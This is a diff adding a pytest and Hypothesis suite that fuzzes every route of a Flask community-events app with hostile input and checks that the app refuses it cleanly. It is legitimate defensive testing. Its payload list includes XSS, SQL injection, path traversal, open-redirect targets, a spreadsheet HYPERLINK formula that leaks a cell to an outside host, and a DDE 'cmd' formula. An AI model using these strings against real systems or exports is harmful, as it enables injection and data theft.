@@ -1,0 +1,412 @@
+"""What a hostile tester throws: NUL bytes, control characters, numbers beyond 64 bits, files and JSON where text
+belongs, dates at the ends of the calendar, strings no one types. Each is refused with a 4xx or a message beside
+the field; nothing is stored and nothing personal is logged. Then every route of the app, on each database, takes
+random hostile input in each of its query parameters, form fields and path parts, and never answers 500."""
+import datetime
+import io
+import os
+import re
+from pathlib import Path
+
+import pytest
+from flask import url_for
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from wtforms.fields.core import UnboundField
+
+from blueprints.orgs.operations import create_invite
+from core.forms import Form
+from core.limits import limiter
+from core.timeutil import local_now
+from models import CheckIn, Event, Organization, Signup, User
+from tests.conftest import PASSWORD, login
+
+ROOT = Path(__file__).resolve().parent.parent
+#: Examples per route and database: a few seconds in all; HOSTILE_EXAMPLES=500 for a long hunt.
+EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "8"))
+MINUTE, DAY = datetime.timedelta(minutes=1), datetime.timedelta(days=1)
+HIDDEN_CHARACTERS = "内容里有看不见的特殊字符"
+NOT_TEXT = "这里请填写文字，不能上传文件"
+
+
+def text(response):
+    return response.get_data(as_text=True)
+
+
+def field_block(html, name):
+    """The form field ``name`` with its label and the messages beside it."""
+    at = html.index(f'name="{name}"')
+    start = html.rindex('<div class="field', 0, at)
+    end = html.find('<div class="field', at)
+    return html[start:end if end != -1 else len(html)]
+
+
+@pytest.fixture
+def world(app, make_user, make_org, make_event):
+    """An organization with its admin and a volunteer, its street's moderator, the district admin, a signed-in
+    stranger; a pending organization; events in each state a route acts on; a sign-up, a check-in, an invitation."""
+    org_admin = make_user(name="组织管理员")
+    org = make_org("xinhua", admin=org_admin)
+    volunteer = make_user(name="志愿者")
+    org.memberships.model.create(user=volunteer, organization=org, role="volunteer")
+    users = {
+        "org_admin": org_admin, "volunteer": volunteer, "member": make_user(name="居民用户"),
+        "moderator": make_user("street_moderator", street="xinhua"), "district_admin": make_user("district_admin"),
+    }
+    open_now = make_event(org, starts_in=-10 * MINUTE, hours=2, capacity=10)  # check-in is open
+    upcoming = make_event(org, starts_in=3 * DAY, signup_enabled=True, capacity=10)
+    with app.app_context():
+        invite = create_invite(org, org_admin)
+    values = {
+        "event_id": open_now.id, "org_id": org.id, "invite_id": invite.id, "slug": "xinhua", "code": "en",
+        "user_id": users["moderator"].id, "token": open_now.checkin_token,
+        "checkin_id": CheckIn.create(event=open_now, name="居民", phone="13600000001", number=1).id,
+    }
+    signup = Signup.create(event=upcoming, name="居民", phone="13600000000")
+    special = {
+        "orgs.admit": {"org_id": make_org("xinhua", status="pending").id},
+        "orgs.decline": {"org_id": make_org("xinhua", status="pending").id},
+        "orgs.join": {"token": invite.token},
+        "events.submit": {"event_id": make_event(org, status="draft").id},
+        "events.publish": {"event_id": make_event(org, status="submitted").id},
+        "events.return_": {"event_id": make_event(org, status="submitted").id},
+        "events.signup": {"event_id": upcoming.id},
+        "events.detail": {"event_id": upcoming.id},
+        "events.my_signup": {"token": signup.token},
+        "events.cancel_my_signup": {"token": signup.token},
+    }
+    return users, values, special
+
+
+def valid_values(world, endpoint):
+    """What a well-meaning visitor would send to ``endpoint``: the starting point each hostile value replaces."""
+    users, values, special = world
+    tomorrow = (local_now() + DAY).date().isoformat()
+    street_id = str(Organization.get_by_id(values["org_id"]).street_id)
+    common = {
+        "name": "李秀英", "phone": "13812341234", "consent": "y", "minor": "", "key": "k" * 22, "t": "",
+        "one_tap": "", "reason": "场地临时维修", "next": "/events/", "csrf_token": "",
+        "password": "long-enough-2026", "confirm": "long-enough-2026", "current": PASSWORD, "remember": "y",
+        "title": "银发太极拳", "category": "elderly", "date": tomorrow, "start_time": "14:00", "end_time": "16:00",
+        "venue": "愚园路 1000 号", "street": street_id, "description": "请穿运动鞋", "capacity": "30",
+        "signup_enabled": "y", "checkin_mode": "static", "checkin_lead_minutes": "30",
+        "kind": "community", "credit_code": "", "service_fields": "elderly", "party_org": "none",
+        "contact_name": "王老师", "contact_phone": "13812345678", "role": "street_moderator", "active": "1",
+        "item": str(special["events.publish"]["event_id"]), "q": "李", "status": "active", "page": "2",
+        "when": "week", "full": "1",
+    }
+    if endpoint == "events.list":
+        common["street"] = "xinhua"
+    if endpoint == "auth.login":
+        common.update(phone=users["org_admin"].phone, password=PASSWORD)
+    return common
+
+
+#: endpoint → (who sends it, the query parameters and form fields it reads). A route without its row fails
+#: test_every_route_has_a_row; a field or parameter the code reads and no row names fails
+#: test_every_field_and_parameter_the_code_reads_is_thrown_at.
+ROUTES = {
+    "main.home": ("anonymous", ()),
+    "main.healthz": ("anonymous", ()),
+    "main.offline": ("anonymous", ()),
+    "main.manifest": ("anonymous", ()),
+    "main.service_worker": ("anonymous", ()),
+    "main.set_language": ("anonymous", ("next",)),
+    "main.toggle_elder_mode": ("anonymous", ("next",)),
+    "auth.login": ("anonymous", ("phone", "password", "remember", "next")),
+    "auth.logout": ("org_admin", ("next",)),
+    "auth.logout_everywhere": ("org_admin", ("next",)),
+    "auth.signup": ("anonymous", ("name", "phone", "password", "confirm", "next")),
+    "auth.change_password": ("org_admin", ("current", "password", "confirm")),
+    "orgs.create": ("member", ("name", "kind", "credit_code", "street", "service_fields", "party_org",
+                               "contact_name", "contact_phone")),
+    "orgs.detail": ("anonymous", ()),
+    "orgs.manage": ("org_admin", ()),
+    "orgs.create_invite_link": ("org_admin", ()),
+    "orgs.invite_qr": ("org_admin", ()),
+    "orgs.join": ("member", ()),
+    "orgs.admit": ("moderator", ()),
+    "orgs.decline": ("moderator", ("reason",)),
+    "orgs.add": ("moderator", ("name", "kind", "credit_code", "street", "service_fields", "party_org",
+                               "contact_name", "contact_phone")),
+    "streets.console": ("moderator", ("q", "status", "page")),
+    "events.list": ("anonymous", ("street", "when", "kind", "page")),
+    "events.detail": ("anonymous", ()),
+    "events.calendar": ("anonymous", ()),
+    "events.signup": ("anonymous", ("name", "phone", "consent")),
+    "events.my_signup": ("anonymous", ()),
+    "events.cancel_my_signup": ("anonymous", ()),
+    "events.create": ("org_admin", ("title", "category", "date", "start_time", "end_time", "venue", "street",
+                                    "description", "capacity", "signup_enabled", "checkin_mode",
+                                    "checkin_lead_minutes")),
+    "events.edit": ("org_admin", ("title", "category", "date", "start_time", "end_time", "venue", "street",
+                                  "description", "capacity", "signup_enabled", "checkin_mode",
+                                  "checkin_lead_minutes")),
+    "events.manage": ("org_admin", ()),
+    "events.submit": ("org_admin", ()),
+    "events.cancel": ("org_admin", ("reason",)),
+    "events.copy": ("org_admin", ()),
+    "events.publish": ("moderator", ()),
+    "events.return_": ("moderator", ("reason",)),
+    "events.publish_many": ("moderator", ("item",)),
+    "checkins.scan": ("anonymous", ("t",)),
+    "checkins.submit": ("anonymous", ("name", "phone", "minor", "consent", "key", "t", "one_tap")),
+    "checkins.not_me": ("anonymous", ("t",)),
+    "checkins.me": ("anonymous", ()),
+    "checkins.erase_me": ("anonymous", ()),
+    "checkins.qr_png": ("org_admin", ()),
+    "checkins.qr_svg": ("org_admin", ()),
+    "checkins.poster": ("org_admin", ()),
+    "checkins.screen": ("org_admin", ()),
+    "checkins.manage": ("org_admin", ("q",)),
+    "checkins.count": ("org_admin", ()),
+    "checkins.manual": ("volunteer", ("name", "phone", "key")),
+    "checkins.undo_checkin": ("org_admin", ("reason",)),
+    "checkins.export_csv": ("org_admin", ("full",)),
+    "checkins.export_xlsx": ("org_admin", ("full",)),
+    "admin.console": ("district_admin", ()),
+    "admin.accounts": ("district_admin", ("role", "street", "name", "phone", "password")),
+    "admin.set_active": ("district_admin", ("active",)),
+}
+
+#: Sent to every route as well: every form carries the CSRF token, and many pages a ``next``.
+EVERYWHERE = ("csrf_token", "next")
+
+#: Strings a hostile tester tries first.
+NASTY = [
+    "\x00", "李\x00秀英", "\x01", "\x1b[31m", "\x7f", "\x85", "\x9f", "\ufffe", "\uffff", "\u202e英秀李", "\u2028",
+    "\t", "\r", "\n", "\r\n", "李\r秀英", " ", "",
+    '=HYPERLINK("//x.cn/?"&C3,"查看")', "+86", "-1", "@SUM(1)", "=1+1",
+    "0", "-0", "99999999999999999999", str(2**63), str(2**63 - 1), str(-(2**63) - 1), "1e309", "NaN", "²", "١٢٣",
+    "１２３", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "24:00", "23:59:60",
+    "长" * 300, "A" * 5000, "𠀀" * 50, "😀", "<script>alert(1)</script>", "' OR 1=1 --", "%00", "../../etc/passwd",
+    "//evil.example", "/\\evil.example", "{{7*7}}",
+]
+HOSTILE = st.one_of(
+    st.sampled_from(NASTY),
+    st.text(st.characters(exclude_categories=("Cs",)), max_size=60),
+    st.integers(min_value=-(2**70), max_value=2**70).map(str),
+)
+#: Hostile text for a path part: some text, so that the URL still has the part.
+HOSTILE_PART = HOSTILE.filter(bool)
+
+
+def rule_of(app, endpoint):
+    return next(rule for rule in app.url_map.iter_rules() if rule.endpoint == endpoint)
+
+
+def test_every_route_has_a_row(app):
+    endpoints = {rule.endpoint for rule in app.url_map.iter_rules() if rule.endpoint != "static"}
+    assert endpoints - set(ROUTES) == set(), "add these routes to ROUTES in tests/test_hostile.py"
+    assert set(ROUTES) - endpoints == set(), "these rows of ROUTES name routes that no longer exist"
+
+
+def form_classes(cls=Form):
+    for sub in cls.__subclasses__():
+        yield sub
+        yield from form_classes(sub)
+
+
+def test_every_field_and_parameter_the_code_reads_is_thrown_at():
+    thrown = {name for _, names in ROUTES.values() for name in names} | set(EVERYWHERE)
+    fields = {
+        name for cls in form_classes() for name in dir(cls) if isinstance(getattr(cls, name, None), UnboundField)
+    }
+    sources = [*ROOT.glob("blueprints/**/*.py"), *ROOT.glob("core/*.py")]
+    read = {
+        name for path in sources
+        for name in re.findall(r"request\.(?:args|form|values)\.(?:get|getlist)\(\s*[\"'](\w+)[\"']", path.read_text())
+    }
+    assert fields, "the forms were not found"
+    assert (fields | read) - thrown == set(), "name these in ROUTES in tests/test_hostile.py"
+
+
+# --- the cases the tester reported ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url", ["/c/%00", "/join/%00", "/signups/%00", "/streets/%00/", "/lang/%00", "/events/%00", "/nowhere%01"]
+)
+def test_a_control_character_in_the_path_is_a_bad_request(client, world, url):
+    response = client.get(url)
+    assert response.status_code == 400
+    assert "请求有误" in text(response)
+
+
+@pytest.mark.parametrize(
+    "query", ["street=%00", "street=x%01", "page=%00", "kind%00=1", "when=%1b", "next=/events/%00"]
+)
+def test_a_control_character_in_the_query_is_a_bad_request(client, query):
+    assert client.get(f"/events/?{query}").status_code == 400
+
+
+def test_a_nul_byte_in_a_form_is_a_bad_request_and_nothing_is_stored_or_logged(client, world, caplog):
+    _, _, special = world
+    url = f"/events/{special['events.signup']['event_id']}/signup"
+    response = client.post(url, data={"name": "李\x00秀英", "phone": "13812349876", "consent": "y"})
+    assert response.status_code == 400
+    assert Signup.select().where(Signup.phone == "13812349876").count() == 0
+    assert "13812349876" not in caplog.text and "秀英" not in caplog.text
+
+
+def test_a_nul_byte_in_a_cookie_is_a_bad_request(client):
+    client.set_cookie("did", "abc\x00")
+    assert client.get("/me/").status_code == 400
+
+
+def test_a_control_character_in_a_name_is_explained_beside_the_field_which_shows_the_name_without(client, world):
+    _, _, special = world
+    url = f"/events/{special['events.signup']['event_id']}/signup"
+    response = client.post(url, data={"name": "李\x1b秀英\u202e", "phone": "13812349876", "consent": "y"})
+    html = text(response)
+    assert response.status_code == 422
+    assert HIDDEN_CHARACTERS in field_block(html, "name")
+    assert re.search(r'name="name"[^>]*value="李秀英"', html)
+    assert Signup.select().where(Signup.phone == "13812349876").count() == 0
+
+
+def test_tabs_and_line_breaks_in_a_one_line_field_become_spaces(client, world):
+    _, _, special = world
+    url = f"/events/{special['events.signup']['event_id']}/signup"
+    response = client.post(url, data={"name": "李\t秀\r\n英", "phone": "13812349876", "consent": "y"})
+    assert response.status_code == 303
+    assert Signup.get(Signup.phone == "13812349876").name == "李 秀 英"
+
+
+def test_a_text_area_keeps_its_lines_and_loses_control_characters_even_unvalidated(client, world):
+    users, values, _ = world
+    login(client, users["org_admin"])
+    response = client.post(f"/events/{values['event_id']}/cancel", data={"reason": "下雨\r\n改期\x08"})
+    assert response.status_code == 303
+    assert Event.get_by_id(values["event_id"]).cancel_reason == "下雨\r\n改期"
+
+
+@pytest.mark.parametrize("field", ["name", "phone", "consent"])
+def test_a_file_where_text_belongs_is_refused_beside_the_field(client, world, field):
+    _, _, special = world
+    url = f"/events/{special['events.signup']['event_id']}/signup"
+    data = {"name": "李秀英", "phone": "13812349876", "consent": "y", field: (io.BytesIO(b"=1+1"), "a.txt")}
+    response = client.post(url, data=data, content_type="multipart/form-data")
+    assert response.status_code == 422
+    assert NOT_TEXT in field_block(text(response), field)
+    assert Signup.select().where(Signup.phone == "13812349876").count() == 0
+
+
+@pytest.mark.parametrize("field", ["title", "date", "start_time", "capacity", "checkin_lead_minutes", "street"])
+def test_a_file_in_any_field_of_the_event_form_is_refused(client, world, field):
+    users, values, _ = world
+    login(client, users["org_admin"])
+    data = {**valid_values(world, "events.create"), field: (io.BytesIO(b"x"), "a.txt")}
+    response = client.post(f"/orgs/{values['org_id']}/events/new", data=data, content_type="multipart/form-data")
+    assert response.status_code == 422
+    assert NOT_TEXT in field_block(text(response), field)
+    assert Event.select().where(Event.title == "银发太极拳").count() == 0
+
+
+def test_a_json_body_is_no_form(client, world):
+    _, _, special = world
+    url = f"/events/{special['events.signup']['event_id']}/signup"
+    response = client.post(url, json={"name": ["李"], "phone": 13812349876, "consent": {"y": 1}})
+    assert response.status_code == 422
+    assert Signup.select().where(Signup.phone == "13812349876").count() == 0
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/events/{}", "/events/{}/calendar.ics", "/orgs/{}/", "/events/{}/manage", "/events/{}/checkins.csv",
+     "/streets/xinhua/events/{}/publish"],
+)
+@pytest.mark.parametrize("number", [2**63, 10**20, 2**63 - 1])
+def test_an_id_beyond_what_a_database_holds_is_not_found(client, world, path, number):
+    users, _, _ = world
+    login(client, users["moderator"])
+    url = path.format(number)
+    response = client.post(url) if url.endswith("publish") else client.get(url)
+    assert response.status_code == 404
+
+
+def test_a_page_beyond_what_a_database_counts_is_an_empty_page(client, world):
+    users, _, _ = world
+    assert client.get("/events/?page=99999999999999999999").status_code == 200
+    assert client.get(f"/events/?page={2**63}", headers={"HX-Request": "true"}).status_code == 200
+    login(client, users["moderator"])
+    assert client.get("/streets/xinhua/?page=99999999999999999999").status_code == 200
+
+
+@pytest.mark.parametrize("item", ["99999999999999999999", "²", "①"])
+def test_a_ticked_item_that_is_no_id_publishes_nothing(client, world, item):
+    users, _, special = world
+    login(client, users["moderator"])
+    response = client.post("/streets/xinhua/events/publish", data={"item": [item]})
+    assert response.status_code == 303
+    assert Event.get_by_id(special["events.publish"]["event_id"]).status == "submitted"
+
+
+@pytest.mark.parametrize("street", ["99999999999999999999", "²"])
+def test_a_street_that_is_no_id_is_refused_for_a_new_moderator(client, world, street):
+    users, _, _ = world
+    login(client, users["district_admin"])
+    data = {"role": "street_moderator", "street": street, "name": "王", "phone": "13812345678",
+            "password": "long-enough-2026"}
+    assert client.post("/admin/accounts", data=data).status_code == 422
+    assert not User.select().where(User.phone == "13812345678").exists()
+
+
+# --- every route, random hostile input ---------------------------------------------------------------------------
+
+
+def request_for(app, world, endpoint, data):
+    """A request to ``endpoint``: each path part, parameter and field is either what a visitor would send or a
+    hostile value; sometimes a file stands where text belongs, sometimes a field comes twice."""
+    users, values, special = world
+    rule = rule_of(app, endpoint)
+    valid = valid_values(world, endpoint)
+    names = (*sorted(rule.arguments), *ROUTES[endpoint][1], *EVERYWHERE)
+    # Mostly one or two hostile values among valid ones: the others must pass for the request to get far.
+    hostile = data.draw(st.sets(st.sampled_from(names)), label="hostile")
+    path = {name: {**values, **special.get(endpoint, {})}[name] for name in rule.arguments}
+    for name in sorted(hostile & rule.arguments):
+        if f"<int:{name}>" in rule.rule:
+            path[name] = data.draw(st.sampled_from([0, 2**31, 2**63 - 1, 2**63, 10**30]), label=name)
+        else:
+            path[name] = data.draw(HOSTILE_PART, label=name)
+    with app.test_request_context():
+        url = url_for(endpoint, **path)
+    fields = {}
+    for name in names[len(rule.arguments):]:
+        if name in hostile:
+            fields[name] = data.draw(st.one_of(HOSTILE, st.lists(HOSTILE, min_size=2, max_size=3)), label=name)
+        elif valid.get(name):
+            fields[name] = valid[name]
+    method = data.draw(st.sampled_from(sorted(rule.methods & {"GET", "POST"})), label="method")
+    if method == "POST" and fields and data.draw(st.booleans(), label="a file"):
+        name = data.draw(st.sampled_from(sorted(fields)), label="file in")
+        fields[name] = (io.BytesIO(b"\x00=cmd|' /C calc'!A0"), "a.csv")
+    return method, url, fields
+
+
+@pytest.mark.parametrize("endpoint", sorted(ROUTES))
+@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_hostile_input_never_answers_500(app, world, endpoint, data):
+    method, url, fields = request_for(app, world, endpoint, data)
+    client = app.test_client()  # a new browser each time: no session or cookie left by the previous example
+    with app.app_context():
+        limiter.reset()  # or the limits would answer 429 before most examples reach anything worth attacking
+    role = ROUTES[endpoint][0]
+    if role != "anonymous":
+        login(client, User.get_by_id(world[0][role].id))
+    response = client.get(url, query_string=fields) if method == "GET" else client.post(url, data=fields)
+    assert response.status_code < 500, f"{method} {url} {fields!r}"
+
+
+def test_the_sweep_reaches_what_it_attacks(app, client, world):
+    """The valid values of the sweep get through: each hostile value is tried where it can do harm."""
+    users, values, _ = world
+    login(client, users["org_admin"])
+    response = client.post(f"/orgs/{values['org_id']}/events/new", data=valid_values(world, "events.create"))
+    assert response.status_code == 303
+    response = app.test_client().post(
+        f"/events/{world[2]['events.signup']['event_id']}/signup", data=valid_values(world, "events.signup")
+    )
+    assert response.status_code == 303
